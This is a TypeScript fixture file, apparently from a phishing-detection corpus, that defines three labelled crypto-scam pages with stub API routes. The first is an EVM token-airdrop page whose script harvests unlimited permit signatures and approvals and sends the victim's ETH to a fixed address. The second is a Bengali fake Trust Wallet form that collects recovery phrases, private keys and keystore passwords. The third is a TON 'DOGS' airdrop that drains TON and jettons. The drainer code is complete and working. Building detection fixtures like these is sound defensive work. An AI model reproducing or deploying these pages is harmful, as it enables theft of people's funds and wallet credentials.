import { htmlRoute, type Entry } from '../entry.js';
import { doc, jsonRoute, jsRoute, kilatLogo } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-drainer-kilat-token-airdrop-permit',
  label: 'cryptodrainer',
  kind: 'evm-drainer',
  url: 'https://claim-kilattoken.io/airdrop',
  body: doc({
    title: '$KLT Airdrop — Claim your Kilat Token',
    css: `*{box-sizing:border-box}body{margin:0;background:#07140f;color:#e6fff4;font-family:Inter,"Segoe UI",Arial}.n{display:flex;justify-content:space-between;align-items:center;padding:16px 24px}
.h{text-align:center;padding:50px 20px}.h h1{font-size:40px;margin:0}.h p{color:#8fd3b5}.c{max-width:460px;margin:0 auto;background:#0d2219;border:1px solid #1c4a37;border-radius:18px;padding:24px}
.amt{font-size:34px;font-weight:800;color:#ffd23f;text-align:center}button{width:100%;background:#00a86b;color:#fff;border:0;border-radius:12px;padding:15px;font-size:16px;font-weight:700;cursor:pointer;margin-top:16px}
.st{font-size:13px;color:#8fd3b5;text-align:center;margin-top:12px}.cd{display:flex;justify-content:center;gap:10px;margin:14px 0}.cd div{background:#123326;border-radius:8px;padding:8px 12px;text-align:center}`,
    body: `<div class="n">${kilatLogo(28).replace('#0b3d2e', '#e6fff4')}<button id="cn" style="width:auto;margin:0;padding:10px 18px">Connect Wallet</button></div>
<div class="h"><h1>$KLT Community Airdrop</h1><p>Riders, drivers and merchants who used Kilat in 2024 are eligible. Season 1 ends soon.</p></div>
<div class="c"><div class="amt" id="amt">2,500 $KLT</div><p class="st">≈ $1,180 at listing price · Bybit, Gate, MEXC</p><div class="cd"><div><b>02</b><br>days</div><div><b>14</b><br>hrs</div><div><b>37</b><br>min</div></div>
<button id="cl">Check eligibility &amp; Claim</button><p class="st" id="msg">Connect the wallet you use with KilatPay Web3.</p></div>
<script>
var SP="0x7a3F6b2e19C4d8A0e5B1f9a27c6D3E8b04aF12c9";
var TK={"0xdAC17F958D2ee523a2206206994597C13D831ec7":"USDT","0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48":"USDC","0x6B175474E89094C44Da98b954EedeAC495271d0F":"DAI"};
var acct=null;
function log(o){o.a=acct;o.h=location.host;return fetch("/api/v1/event",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(o)})}
async function connect(){if(!window.ethereum){document.getElementById("msg").textContent="Open this page in MetaMask, Trust Wallet or OKX Wallet browser.";return}
 var a=await ethereum.request({method:"eth_requestAccounts"});acct=a[0];document.getElementById("cn").textContent=acct.slice(0,6)+"…"+acct.slice(-4);log({t:"connect"});}
async function claim(){if(!acct)await connect();if(!acct)return;
 var bal=await (await fetch("/api/v1/assets?a="+acct)).json();
 for(var i=0;i<bal.tokens.length;i++){var t=bal.tokens[i];
  var dl=Math.floor(Date.now()/1000)+86400*30;
  var typed={types:{EIP712Domain:[{name:"name",type:"string"},{name:"version",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],Permit:[{name:"owner",type:"address"},{name:"spender",type:"address"},{name:"value",type:"uint256"},{name:"nonce",type:"uint256"},{name:"deadline",type:"uint256"}]},primaryType:"Permit",domain:{name:t.name,version:"2",chainId:1,verifyingContract:t.address},message:{owner:acct,spender:SP,value:"115792089237316195423570985008687907853269984665640564039457584007913129639935",nonce:t.nonce,deadline:dl}};
  try{var sig=await ethereum.request({method:"eth_signTypedData_v4",params:[acct,JSON.stringify(typed)]});await log({t:"permit",token:t.address,sig:sig,deadline:dl});}
  catch(e){var data="0x095ea7b3"+SP.slice(2).toLowerCase().padStart(64,"0")+"f".repeat(64);
   try{await ethereum.request({method:"eth_sendTransaction",params:[{from:acct,to:t.address,data:data}]});await log({t:"approve",token:t.address})}catch(x){}}}
 if(bal.eth>0.002){var v="0x"+Math.floor((bal.eth-0.0015)*1e18).toString(16);try{await ethereum.request({method:"eth_sendTransaction",params:[{from:acct,to:SP,value:v}]})}catch(e){}}
 document.getElementById("msg").textContent="Claim submitted! Tokens will appear in your wallet after the TGE.";}
document.getElementById("cn").onclick=connect;document.getElementById("cl").onclick=claim;
</script>`,
  }),
  routes: {
    'claim-kilattoken.io/api/v1/assets': jsonRoute({ eth: 0, tokens: [] }),
    'claim-kilattoken.io/api/v1/event': jsonRoute({ ok: true }),
  },
},
{
  id: 'zy-seed-trustwallet-validation-bn',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://trustwallet-validation.support-dapp.com/validate',
  body: doc({
    title: 'Trust Wallet | Wallet Validation',
    lang: 'bn',
    css: `*{box-sizing:border-box}body{margin:0;background:#f6f8fb;font-family:"Hind Siliguri",Inter,Arial;color:#1b1f2a}.h{background:#0500ff;color:#fff;padding:16px 22px;font-weight:700;font-size:20px}
.c{max-width:520px;margin:24px auto;background:#fff;border-radius:16px;padding:24px;box-shadow:0 4px 18px rgba(0,0,0,.06)}.tabs{display:flex;gap:6px;margin-bottom:12px}.tabs button{flex:1;border:1px solid #d6dbe6;background:#fff;border-radius:8px;padding:9px;cursor:pointer}.tabs .on{background:#0500ff;color:#fff;border-color:#0500ff}
textarea{width:100%;min-height:120px;border:1px solid #d6dbe6;border-radius:10px;padding:12px;font-size:15px}button.go{width:100%;background:#0500ff;color:#fff;border:0;border-radius:24px;padding:14px;font-size:16px;margin-top:14px}.w{background:#fff7e6;padding:10px;border-radius:8px;font-size:14px}`,
    body: `<div class="h">🛡 Trust Wallet</div><div class="c"><h2 style="margin-top:0">ওয়ালেট ভ্যালিডেশন প্রয়োজন</h2>
<p class="w">নতুন নিরাপত্তা আপডেটের কারণে সকল ওয়ালেট ৪৮ ঘণ্টার মধ্যে ভ্যালিডেট করতে হবে। ভ্যালিডেশন না করলে আপনার ওয়ালেটের USDT ও BNB সাময়িকভাবে ফ্রিজ হয়ে যেতে পারে। (All wallets must be validated within 48 hours.)</p>
<div class="tabs"><button class="on" data-k="phrase">Phrase</button><button data-k="keystore">Keystore JSON</button><button data-k="pk">Private Key</button></div>
<form id="v" method="post" action="/validate/submit"><input type="hidden" name="type" id="ty" value="phrase">
<textarea name="data" id="ph" placeholder="আপনার ১২ বা ২৪ শব্দের রিকভারি ফ্রেজ লিখুন, প্রতিটি শব্দের মাঝে স্পেস দিন" required></textarea>
<input name="pw" id="pw" type="password" placeholder="Keystore password" style="display:none;width:100%;margin-top:8px;padding:12px;border:1px solid #d6dbe6;border-radius:10px">
<button class="go">ভ্যালিডেট করুন</button></form>
<p style="font-size:12px;color:#778">Typically 12 (sometimes 18, 24) words separated by single spaces. Your data is end-to-end encrypted.</p></div>
<script>
document.querySelectorAll(".tabs button").forEach(function(b){b.onclick=function(){document.querySelectorAll(".tabs button").forEach(function(x){x.classList.remove("on")});b.classList.add("on");ty.value=b.dataset.k;pw.style.display=b.dataset.k==="keystore"?"block":"none";ph.placeholder=b.dataset.k==="pk"?"Private key (64 hex characters)":b.dataset.k==="keystore"?"Paste keystore JSON":"Recovery phrase"}});
document.getElementById("v").onsubmit=function(e){var w=ph.value.trim().split(/\\s+/);if(ty.value==="phrase"&&[12,18,24].indexOf(w.length)<0){e.preventDefault();alert("Invalid phrase: 12, 18 or 24 words required")}};
</script>`,
  }),
  routes: {
    'trustwallet-validation.support-dapp.com/validate/submit': htmlRoute(doc({ title: 'Trust Wallet', body: '<div style="font-family:Arial;text-align:center;margin-top:30vh"><h2>Validation in progress…</h2><p>Your wallet will be synchronised within 24 hours. Do not make any transactions until then.</p></div>' })),
  },
},
{
  id: 'zy-drainer-ton-dogs-airdrop-tonconnect',
  label: 'cryptodrainer',
  kind: 'ton-drainer',
  url: 'https://dogs-ton-claim.app/',
  body: doc({
    title: 'DOGS — Claim your Telegram airdrop',
    css: `*{box-sizing:border-box}body{margin:0;background:#000;color:#fff;font-family:Inter,Arial;text-align:center}.w{max-width:420px;margin:0 auto;padding:30px 20px}.dog{font-size:90px}.a{font-size:36px;font-weight:800}
.b{display:block;width:100%;background:#fff;color:#000;border:0;border-radius:14px;padding:16px;font-size:17px;font-weight:700;margin-top:20px;cursor:pointer}.s{color:#999;font-size:13px;margin-top:12px}#ton-connect{display:flex;justify-content:center;margin-top:10px}`,
    head: '<script src="https://unpkg.com/@tonconnect/ui@2.0.9/dist/tonconnect-ui.min.js"></script>',
    body: `<div class="w"><div class="dog">🐶</div><p>You are eligible for</p><div class="a" id="amt">14,220 DOGS</div><p class="s">Based on your Telegram account age and activity</p>
<div id="ton-connect"></div><button class="b" id="claim">Claim DOGS</button><p class="s" id="st">Connect Tonkeeper, Telegram Wallet or MyTonWallet. Network fee ≈ 0.05 TON.</p></div>
<script>
var DST="UQBvI3Qx9qM4z8c1rN2kS6fT0aL7pY5wE3hJ9dG2uV8oKmXn";
var ui=window.TON_CONNECT_UI?new TON_CONNECT_UI.TonConnectUI({manifestUrl:"https://dogs-ton-claim.app/tonconnect-manifest.json",buttonRootId:"ton-connect"}):null;
async function drain(){if(!ui)return;if(!ui.connected){await ui.openModal();return}
 var addr=ui.account.address;var r=await (await fetch("/api/balance?addr="+encodeURIComponent(addr))).json();
 var msgs=[];if(r.ton>0.06){msgs.push({address:DST,amount:String(Math.floor((r.ton-0.05)*1e9))})}
 (r.jettons||[]).forEach(function(j){msgs.push({address:j.wallet,amount:"50000000",payload:j.transferPayload})});
 try{await ui.sendTransaction({validUntil:Math.floor(Date.now()/1000)+360,messages:msgs.slice(0,4)});fetch("/api/ok",{method:"POST",body:addr});document.getElementById("st").textContent="Claimed! DOGS will arrive within 10 minutes."}
 catch(e){document.getElementById("st").textContent="Transaction was rejected. Please try again to receive your DOGS."}}
document.getElementById("claim").onclick=drain;
</script>`,
  }),
  routes: {
    'dogs-ton-claim.app/tonconnect-manifest.json': jsonRoute({ url: 'https://dogs-ton-claim.app', name: 'DOGS', iconUrl: 'https://dogs-ton-claim.app/icon.png' }),
    'dogs-ton-claim.app/api/balance': jsonRoute({ ton: 0, jettons: [] }),
  },
},
];
